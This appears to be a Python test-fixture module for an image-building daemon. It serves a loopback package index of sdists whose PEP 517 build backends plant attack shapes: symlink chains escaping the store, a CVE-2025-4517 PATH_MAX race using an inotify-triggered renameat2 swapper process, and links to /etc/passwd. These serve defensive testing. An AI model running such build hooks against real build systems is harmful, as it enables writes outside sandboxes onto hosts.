"""Image builds as an attacker makes them: a package index served on loopback, and sdists whose build (pip
runs it inside the build sandbox, as the build's uid) shapes the image folder the daemon then takes in.

The sdist has an in-tree PEP 517 backend (stdlib only, so the index needs nothing else) whose
``build_wheel`` first shapes the layer at /opt/python-env, then returns a wheel of one module. Shapes:

* ``chain``: lib/pythonX.Y made a link through a chain of 16 folders of 240-character names, links one
  level deeper each and a link climbing back up: read lexically (and checked while the chain is not
  there yet) it stays in lib/; the kernel resolves it to ``victim`` on the daemon's side. A daemon that
  then makes lib/pythonX.Y/site-packages through it writes outside its store.
* ``swap``: CVE-2025-4517 as the issue found it: the same chain of 240-character folders, a last link
  whose 255-character name takes the daemon's path past PATH_MAX (where ``os.path.realpath`` stops
  resolving and tarfile's ``data`` filter reads the rest lexically), and a process left running that
  swaps folders and links (renameat2 RENAME_EXCHANGE) as the packer walks, each at the moment the
  packer opens what it walks just before (inotify): the packer sends ``swap`` as a link through the
  chain and then ``swap/pwned.txt``, which lands in ``victim``. Deterministic against a packer that
  sends entries as it lists them (the old tar packer); against any packer, a stream to refuse.
* ``links-out``: links to /etc, to ../../../../../../../../etc and to /etc/passwd.
* ``special``: a fifo, and a hard link to /etc/passwd attempted.
* ``safe``: what a layer may hold, oddly: a link inside site-packages, a setuid/setgid executable, a
  sticky folder, a name with a newline, a file of mode 000 (which the packer leaves out).
* ``plain``: nothing but the module (two indexes serving the same ``name==version`` with different code).
"""

from __future__ import annotations

import hashlib
import html
import io
import json
import os
import tarfile
import threading
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import TracebackType
from typing import Any, Self

SHAPES = ("chain", "swap", "links-out", "special", "safe", "plain")

BACKEND = r'''
import base64, ctypes, hashlib, json, os, struct, sys, zipfile

CONF = json.load(open("worldrt_shape.json"))
LAYER = "/opt/python-env"
PY = "python%d.%d" % sys.version_info[:2]
LIB = LAYER + "/lib"
SITE = LIB + "/" + PY + "/site-packages"
COMP = "d" * 240


def get_requires_for_build_wheel(config_settings=None):
    return []


def _chain(top, up_name):
    """top/s -> COMP, top/COMP/s -> COMP, ... 16 deep; top/COMP^16/<up_name> -> ../ x16 (back to top)."""
    fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(16):
        try:
            os.mkdir(COMP, dir_fd=fd)
            os.symlink(COMP, "s", dir_fd=fd)
        except FileExistsError:
            pass
        nxt = os.open(COMP, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = nxt
    if up_name:
        try:
            os.symlink("../" * 16, up_name, dir_fd=fd)
        except FileExistsError:
            pass
    os.close(fd)
    return "s/" * 16 + up_name + "/" + "../" * 17


def shape_chain():
    real = LIB + "/" + PY
    if os.path.islink(real):
        return
    os.makedirs(LIB + "/zchain", exist_ok=True)
    climb = _chain(LIB + "/zchain", "up")
    os.makedirs(CONF["victim"] + "/site-packages", exist_ok=True)  # so pip installs through the link here
    os.rmdir(SITE)
    os.rmdir(real)
    os.symlink("zchain/" + climb + "../" + CONF["victim"].lstrip("/"), real)


def _swapper(steps):
    """Left running after pip: each (watched, a, b) in turn, when ``watched`` is next opened (the packer
    at work), exchange ``a`` and ``b`` (renameat2 RENAME_EXCHANGE)."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    os.closerange(3, 4096)
    libc = ctypes.CDLL(None, use_errno=True)
    ino = libc.inotify_init1(0)
    watches = [libc.inotify_add_watch(ino, w.encode(), 0x20) for w, _, _ in steps]  # IN_OPEN
    done = 0
    while done < len(steps):
        data = os.read(ino, 65536)
        at = 0
        while at < len(data):
            wd, mask, cookie, size = struct.unpack_from("iIII", data, at)
            name = data[at + 16:at + 16 + size].rstrip(b"\0")
            at += 16 + size
            if done < len(steps) and wd == watches[done] and not name:
                _, a, b = steps[done]
                libc.renameat2(-100, a.encode(), -100, b.encode(), 2)  # AT_FDCWD, RENAME_EXCHANGE
                done += 1
    os._exit(0)


def shape_swap():
    """The packer (an os.walk) sends an entry as it finds it, then goes into the folders it listed: a link
    it sent may be a folder when it goes in. Three exchanges, each when the packer opens what it walks
    just before: ``swap`` is a folder when listed, a link when sent, a folder (holding pwned.txt) when
    walked; ``aaa_chain/s`` is a link when sent and a folder (``shadow``: s/s/.../s/<255 u>) when walked,
    so the stream names that last link through 16 links. On the daemon's side the names of the chain
    take its path past PATH_MAX where os.path.realpath gives up and reads the rest lexically."""
    if os.path.lexists(SITE + "/swap"):
        return
    chain = SITE + "/aaa_chain"
    os.makedirs(chain, exist_ok=True)
    _chain(chain, "")
    top = chain + "/" + COMP
    for i in range(300):
        open(top + "/f%03d" % i, "w").write("x")
    os.makedirs(chain + "/shadow" + "/s" * 15)
    up = "u" * 255
    os.symlink("../" * 16, chain + "/shadow" + "/s" * 15 + "/" + up)
    os.makedirs(CONF["victim"], exist_ok=True)
    os.symlink("aaa_chain/" + "s/" * 16 + up + "/" + "../" * 21 + CONF["victim"].lstrip("/"), SITE + "/zz_link")
    os.makedirs(SITE + "/swap")
    open(SITE + "/swap/pwned.txt", "w").write("written by a package's build\n")
    open(SITE + "/aaa_file.txt", "w").write("the first file the packer opens here\n")
    for i in range(1000):
        open(SITE + "/filler%04d.txt" % i, "w").write("x")
    _swapper([(SITE + "/aaa_file.txt", SITE + "/swap", SITE + "/zz_link"),
              (chain, SITE + "/swap", SITE + "/zz_link"),
              (top, chain + "/s", chain + "/shadow")])


def shape_links_out():
    for name, target in (("out_abs", "/etc"), ("out_rel", "../" * 12 + "etc"), ("out_passwd", "/etc/passwd")):
        if not os.path.lexists(SITE + "/" + name):
            os.symlink(target, SITE + "/" + name)


def shape_special():
    if not os.path.exists(SITE + "/fifo"):
        os.mkfifo(SITE + "/fifo")
    try:
        os.link("/etc/passwd", SITE + "/passwd")
    except OSError:
        pass  # another mount: the kernel refuses it


def shape_safe():
    if os.path.lexists(SITE + "/alias"):
        return
    os.symlink(CONF["module"], SITE + "/alias")
    with open(SITE + "/tool", "w") as f:
        f.write("#!/bin/sh\necho tool\n")
    os.chmod(SITE + "/tool", 0o6755)
    os.makedirs(SITE + "/sticky")
    os.chmod(SITE + "/sticky", 0o1777)
    open(SITE + "/sticky/line\nbreak.txt", "w").write("odd name\n")
    open(SITE + "/unreadable", "w").write("mode 000: the packer cannot read it either\n")
    os.chmod(SITE + "/unreadable", 0)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    shape = CONF["shape"]
    if shape != "plain":
        globals()["shape_" + shape.replace("-", "_")]()
    name, version, module = CONF["name"], CONF["version"], CONF["module"]
    dist = name.replace("-", "_") + "-" + version + ".dist-info"
    files = {module + "/__init__.py": CONF["source"].encode()}
    files[dist + "/METADATA"] = ("Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (name, version)).encode()
    files[dist + "/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: worldrt-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = ["%s,sha256=%s,%d" % (p, base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b"=").decode(),
                                   len(d)) for p, d in files.items()]
    files[dist + "/RECORD"] = ("\n".join(record + [dist + "/RECORD,,"]) + "\n").encode()
    wheel = name.replace("-", "_") + "-" + version + "-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, wheel), "w") as z:
        for path, data in files.items():
            z.writestr(path, data)
    return wheel
'''


def sdist(name: str, version: str, shape: str = "plain", source: str = "", victim: str = "") -> bytes:
    """An sdist of ``name==version`` whose build shapes the layer as ``shape`` says; its module (``name``
    with '-' as '_') holds ``source``."""
    if shape not in SHAPES:
        raise ValueError(f"shape {shape!r} is not one of {SHAPES}")
    module = name.replace("-", "_")
    conf = {"name": name, "version": version, "module": module, "shape": shape,
            "source": source or f"WHO = {name!r}\n", "victim": victim}
    files = {
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
        "backend.py": BACKEND,
        "worldrt_shape.json": json.dumps(conf),
    }
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for path, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{name}-{version}/{path}")
            info.size, info.mode = len(data), 0o644
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


class PackageIndex:
    """A PEP 503 simple index on 127.0.0.1 (``url``) of the files ``add`` puts in ``root``."""

    def __init__(self, root: Path) -> None:
        self.root = root
        (root / "simple").mkdir(parents=True, exist_ok=True)
        (root / "files").mkdir(exist_ok=True)
        folder = str(root)

        class Handler(SimpleHTTPRequestHandler):
            def __init__(self, *args: Any, **kwargs: Any) -> None:
                super().__init__(*args, directory=folder, **kwargs)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/simple"
        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def add(self, name: str, version: str, data: bytes) -> None:
        filename = f"{name}-{version}.tar.gz"
        (self.root / "files" / filename).write_bytes(data)
        page = self.root / "simple" / name.lower().replace("_", "-")
        page.mkdir(exist_ok=True)
        link = f'<a href="/files/{html.escape(filename)}#sha256={hashlib.sha256(data).hexdigest()}">{filename}</a>'
        (page / "index.html").write_text(f"<!DOCTYPE html><html><body>{link}</body></html>\n")

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, exc_type: type[BaseException] | None, exc: BaseException | None,
                 tb: TracebackType | None) -> None:
        self.server.shutdown()
        self.server.server_close()
        self._thread.join(10)


def written_under(folder: Path) -> list[str]:
    """Everything under ``folder`` (a victim folder of the host), without following links."""
    found = []
    for top, dirs, names in os.walk(folder):
        for name in dirs + names:
            found.append(os.path.relpath(os.path.join(top, name), folder))
    return sorted(found)
